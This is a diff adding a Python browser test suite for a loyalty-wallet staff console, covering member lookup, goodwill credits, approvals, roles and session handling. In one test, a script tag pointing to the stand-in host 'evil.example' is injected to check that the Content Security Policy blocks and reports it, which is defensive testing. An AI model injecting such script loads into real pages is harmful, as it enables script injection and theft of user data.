@@ -1,0 +1,327 @@
+"""The console in a real browser, at a real server: every task, and what people can do wrong."""
+
+import json
+from collections.abc import AsyncIterator
+from typing import Any
+
+import pytest
+import structlog
+
+from api.identity import sessions
+from tests import browser, serving
+from tests.console import workplace
+from wallet import database, ids
+
+pytestmark = pytest.mark.slow
+
+WHY = "The parcel came three days late."
+Logs = list[structlog.typing.EventDict]
+
+
+@pytest.fixture
+async def world(db: database.Database) -> workplace.World:
+    """A small coalition with something to look at."""
+    workplace.need()
+    browser.need()
+    return await workplace.world(db)
+
+
+@pytest.fixture
+async def house(db: database.Database, world: workplace.World) -> AsyncIterator[serving.House]:
+    """The installation, served as in production; at the end no policy was broken."""
+    with structlog.testing.capture_logs() as logs:
+        async with serving.serve(db) as served:
+            yield served
+
+    assert [] == [one for one in logs if one["event"] == "csp.violation"]
+
+
+def data(answer: Any) -> Any:
+    """The data of an answer without errors."""
+    assert "errors" not in answer, answer
+    return answer["data"]
+
+
+async def test_support_looks_up_a_member_and_what_the_member_sees(
+    db: database.Database, house: serving.House, world: workplace.World
+) -> None:
+    member_id = ids.show("mem", world.ana.member_id)
+    async with workplace.desk(db, house, "support") as (desk, _):
+        await desk.task("Find a member")
+        await desk.fill(email=world.ana.email.upper())
+        found = data(await desk.run())["memberByEmail"]
+        await desk.task("What does this member see")
+        await desk.fill(id=member_id)
+        seen = data(await desk.run())["member"]
+        await desk.task("What did this member buy")
+        await desk.fill(id=member_id)
+        bought = data(await desk.run())["member"]["purchases"]["edges"]
+        await desk.task("Why did this purchase earn this")
+        await desk.fill(id=bought[0]["node"]["id"])
+        explained = data(await desk.run())["purchaseExplanation"]
+        await desk.task("Why was this redemption refused")
+        await desk.fill(id=member_id)
+        redemptions = data(await desk.run())["member"]["redemptions"]["edges"]
+        await desk.task("What do the merchants give back")
+        merchants = data(await desk.run())["merchants"]["edges"]
+
+        assert (member_id, "15.00") == (found["id"], found["wallet"]["available"]["amount"])
+        assert {"EARN", "MATURE", "HOLD"} <= {
+            edge["node"]["kind"] for edge in seen["wallet"]["movements"]["edges"]
+        }
+        assert ["2.00", "1.28"] == [
+            line["decision"]["credited"]["amount"] for line in explained["lines"]
+        ]
+        assert all(line["decision"]["sentence"] for line in explained["lines"])
+        assert ["HELD"] == [edge["node"]["status"] for edge in redemptions]
+        assert 2 == len(merchants)
+        assert [] == desk.tab.complaints
+
+
+async def test_a_credit_within_the_limit_is_done_once_and_logged_with_its_document(
+    db: database.Database, house: serving.House, world: workplace.World
+) -> None:
+    member_id = ids.show("mem", world.ana.member_id)
+    async with workplace.desk(db, house, "support") as (desk, staff_id):
+        await desk.task("Post a goodwill credit")
+        key = (await desk.variables())["input"]["idempotencyKey"]
+        await desk.fill("input", memberId=member_id, reason=WHY)
+        first = data(await desk.send())["goodwillCredit"]
+        said = await desk.page.get_by_role("status").inner_text()
+        second = data(await desk.send())["goodwillCredit"]
+        await desk.task("Post a goodwill credit")
+        other = (await desk.variables())["input"]["idempotencyKey"]
+
+        assert ("5.00", False) == (first["credited"]["amount"], first["replayed"])
+        assert "Done" in said
+        assert second["replayed"]
+        assert 36 == len(key) and key != other
+        assert 2_000 == (await world.coalition.faces(world.ana)).available
+        assert [] == desk.tab.complaints
+    rows = await db.fetch(
+        "select actor_id, reason, document_hash, request_id from coalition.audit"
+        " where act = 'credit.goodwill'"
+    )
+    assert [(staff_id, WHY)] == [(row["actor_id"], row["reason"]) for row in rows]
+    assert 32 == len(rows[0]["document_hash"])
+    assert rows[0]["request_id"].startswith("req_")
+
+
+async def test_nothing_is_sent_without_a_reason_or_without_a_yes(
+    db: database.Database, house: serving.House, world: workplace.World
+) -> None:
+    member_id = ids.show("mem", world.ana.member_id)
+    async with workplace.desk(db, house, "support") as (desk, _):
+        await desk.task("Post a goodwill credit")
+        await desk.fill("input", memberId=member_id, reason="  ")
+        silent = await desk.run()
+        await desk.fill("input", reason=WHY)
+        declined = await desk.send(sure=False)
+        await desk.page.get_by_role("button", name="Execute query").click()
+        question = await desk.page.get_by_role("alertdialog").inner_text()
+        await desk.page.keyboard.press("Escape")
+        escaped = await desk.answer()
+
+        assert "Write a reason first" in silent["notSent"]
+        assert "Nothing was sent" in declined["notSent"]
+        assert declined == escaped
+        assert "This moves money" in question and WHY in question
+        assert 1_500 == (await world.coalition.faces(world.ana)).available
+
+
+async def test_a_refusal_is_told_in_words(
+    db: database.Database, house: serving.House, world: workplace.World
+) -> None:
+    async with workplace.desk(db, house, "support") as (desk, _):
+        await desk.task("Post a goodwill credit")
+        await desk.fill("input", memberId=ids.show("mem", world.ana.member_id), reason=WHY)
+        await desk.fill("input", "amount", amount="50.00")
+        (refusal,) = data(await desk.send())["goodwillCredit"]["errors"]
+        said = await desk.page.get_by_role("status").inner_text()
+        await desk.page.get_by_role("button", name="Show Refusals").click()
+        panel = desk.page.get_by_role("region", name="Refusals")
+        await panel.get_by_role("searchbox").fill("goodwill")
+        explained = await panel.locator("dl").inner_text()
+
+        assert ("GOODWILL_LIMIT", "20.00") == (refusal["code"], refusal["allowed"]["amount"])
+        assert "Refused" in said and "GOODWILL_LIMIT" in said and refusal["message"] in said
+        assert explained.startswith("GOODWILL_LIMIT\n")
+        assert [] == desk.tab.complaints
+
+
+async def test_a_second_person_approves_what_the_first_proposed(
+    db: database.Database, house: serving.House, world: workplace.World
+) -> None:
+    member_id = ids.show("mem", world.ana.member_id)
+    async with workplace.desk(db, house, "support") as (desk, _):
+        await desk.task("Propose a goodwill credit")
+        await desk.fill("input", memberId=member_id, reason=WHY)
+        proposed = data(await desk.send())["goodwillCreditPropose"]["approval"]
+        await desk.task("Resolve a redemption in doubt")
+        await desk.fill(
+            "input",
+            redemptionId=ids.show("red", world.held.redemption_id),
+            outcome="CAPTURED",
+            reason="The till of the merchant was stolen.",
+            evidence="Receipt 4711, which the member showed.",
+        )
+        resolved = data(await desk.send())["redemptionResolve"]["approval"]
+    async with workplace.desk(db, house, "supervisor") as (desk, _):
+        await desk.task("What waits for a second person")
+        waiting = data(await desk.run())["approvals"]["edges"]
+        for approval in (proposed, resolved):
+            await desk.task("Approve a credit or a settlement")
+            await desk.fill("input", approvalId=approval["id"], reason="I spoke to the member.")
+            payload = data(await desk.send())["approvalDecide"]
+            assert [] == payload["errors"]
+            assert "APPROVED" == payload["approval"]["status"]
+            assert "Sofia Almeida" == payload["approval"]["maker"]["name"]
+            assert "Sergio Prado" == payload["approval"]["checker"]["name"]
+        await desk.task("Who did what, and why")
+        await desk.fill(subjectId=member_id)
+        trail = data(await desk.run())["auditTrail"]["edges"]
+
+        assert {proposed["id"], resolved["id"]} == {edge["node"]["id"] for edge in waiting}
+        assert WHY in {edge["node"]["reason"] for edge in trail}
+        assert [] == desk.tab.complaints
+    faces = await world.coalition.faces(world.ana)
+    assert (6_500, 0) == (faces.available, faces.held)
+
+
+async def test_support_freezes_unfreezes_and_enrols(
+    db: database.Database, house: serving.House, world: workplace.World
+) -> None:
+    member_id = ids.show("mem", world.ana.member_id)
+    async with workplace.desk(db, house, "support") as (desk, _):
+        await desk.task("Freeze a wallet")
+        await desk.fill("input", memberId=member_id, reason="The member lost the phone.")
+        frozen = data(await desk.send())["memberSuspend"]
+        await desk.task("Unfreeze a wallet")
+        await desk.fill("input", memberId=member_id, reason="The phone is found again.")
+        free = data(await desk.send())["memberReinstate"]
+        await desk.task("Enrol a member")
+        await desk.fill("input", reason="Asked for it at the counter.")
+        enrolled = data(await desk.send())["memberEnrol"]
+
+        assert ("SUSPENDED", "ACTIVE") == (frozen["member"]["status"], free["member"]["status"])
+        assert "New Member" == enrolled["member"]["displayName"]
+        assert [] == desk.tab.complaints
+
+
+async def test_operators_look_after_merchants(
+    db: database.Database, house: serving.House, world: workplace.World
+) -> None:
+    async with workplace.desk(db, house, "operator") as (desk, _):
+        await desk.task("Register a merchant")
+        await desk.fill("input", reason="The contract was signed today.")
+        merchant_id = data(await desk.send())["merchantRegister"]["merchant"]["id"]
+        await desk.task("Publish a contract")
+        await desk.fill("input", merchantId=merchant_id, note="As signed today.")
+        published = data(await desk.send())["contractPublish"]
+        await desk.task("Suspend a merchant")
+        await desk.fill("input", merchantId=merchant_id, reason="It has not paid its share.")
+        suspended = data(await desk.send())["merchantSuspend"]
+        await desk.task("Reinstate a merchant")
+        await desk.fill("input", merchantId=merchant_id, reason="It has paid its share.")
+        reinstated = data(await desk.send())["merchantReinstate"]
+
+        assert ([], 1) == (published["errors"], published["version"])
+        assert "SUSPENDED" == suspended["merchant"]["status"]
+        assert "ACTIVE" == reinstated["merchant"]["status"]
+        assert [] == desk.tab.complaints
+
+
+async def test_each_role_is_shown_its_own_tasks(
+    db: database.Database, house: serving.House, world: workplace.World
+) -> None:
+    shown: dict[str, set[str]] = {}
+    for role in ("support", "supervisor", "operator"):
+        async with workplace.desk(db, house, role) as (desk, _):
+            titles = desk.page.locator(".tasks .title")
+            shown[role] = set(await titles.all_inner_texts())
+            badge = await desk.page.locator(".role").inner_text()
+            assert role == badge
+
+    assert "Post a goodwill credit" in shown["support"]
+    assert "Approve a credit or a settlement" in shown["supervisor"] - shown["support"]
+    assert "Register a merchant" in shown["operator"] - shown["supervisor"]
+
+
+async def test_when_the_session_is_over_the_tabs_are_kept_for_the_same_person(
+    db: database.Database, house: serving.House, world: workplace.World
+) -> None:
+    async with workplace.desk(db, house, "support") as (desk, staff_id):
+        await desk.task("Freeze a wallet")
+        await desk.fill("input", reason="Half written")
+        await desk.page.wait_for_timeout(700)  # the editor keeps its tabs half a second later
+        await sessions.end_all(db, kind="staff", principal_id=staff_id)
+        await desk.page.get_by_role("button", name="Execute query").click()
+        await desk.page.get_by_role("button", name="Run it").click()
+        await desk.page.wait_for_url("**/staff/signin?next=/console")
+        secret = await workplace.secret_of(db, staff_id)
+        await _carry(desk, house, secret)
+        await desk.open(house.origin)
+        kept = await desk.variables()
+        other = await workplace.employ(db, "supervisor")
+        await _carry(desk, house, await workplace.secret_of(db, other))
+        await desk.open(house.origin)
+        begun = await desk.variables()
+
+        assert "Half written" == kept["input"]["reason"]
+        assert {"email"} == set(begun)  # somebody else begins with none of them
+
+
+async def test_nothing_about_a_member_outlives_the_browser_tab(
+    db: database.Database, house: serving.House, world: workplace.World
+) -> None:
+    async with workplace.desk(db, house, "support") as (desk, _):
+        await desk.task("Find a member")
+        await desk.fill(email=world.ana.email)
+        data(await desk.run())
+        await desk.page.wait_for_timeout(700)
+        lasting = await desk.page.evaluate("JSON.stringify({...localStorage})")
+        passing = await desk.page.evaluate("JSON.stringify({...sessionStorage})")
+        await desk.page.get_by_role("button", name="Sign out").click()
+        await desk.page.wait_for_url("**/staff/signin**")
+        left = await desk.page.evaluate("JSON.stringify({...sessionStorage})")
+
+        assert world.ana.email not in lasting
+        assert world.ana.email in passing
+        # The answer is kept nowhere, not even there.
+        assert ids.show("mem", world.ana.member_id) not in lasting + passing
+        assert {} == json.loads(left)
+        assert await db.fetchval("select bool_and(revoked_at is not null) from identity.session")
+
+
+async def test_the_documentation_opens(
+    db: database.Database, house: serving.House, world: workplace.World
+) -> None:
+    async with workplace.desk(db, house, "support") as (desk, _):
+        await desk.page.get_by_role("button", name="Show Documentation Explorer").click()
+        await desk.page.get_by_role("link", name="Mutation").click()
+        await desk.page.get_by_text("Credit a member out of the operator's pocket").wait_for()
+
+        assert [] == desk.tab.complaints
+
+
+async def test_what_the_policy_stops_is_reported(
+    db: database.Database, world: workplace.World
+) -> None:
+    # So that the empty reports of the tests above mean something.
+    with structlog.testing.capture_logs() as logs:
+        async with serving.serve(db) as house, workplace.desk(db, house, "support") as (desk, _):
+            async with desk.page.expect_request("**/csp"):
+                await desk.page.evaluate(
+                    "document.body.append(Object.assign(document.createElement('script'),"
+                    " {src: 'https://evil.example/x.js?secret'}))"
+                )
+            await desk.page.wait_for_timeout(200)
+
+            assert any("Content Security Policy" in one for one in desk.tab.complaints)
+    (report,) = [one for one in logs if one["event"] == "csp.violation"]
+    assert "https://evil.example/x.js" == report["blocked"]
+
+
+async def _carry(desk: workplace.Desk, house: serving.House, secret: str) -> None:
+    name = sessions.cookie_name(house.settings)
+    await desk.page.context.add_cookies([{"name": name, "value": secret, "url": house.origin}])
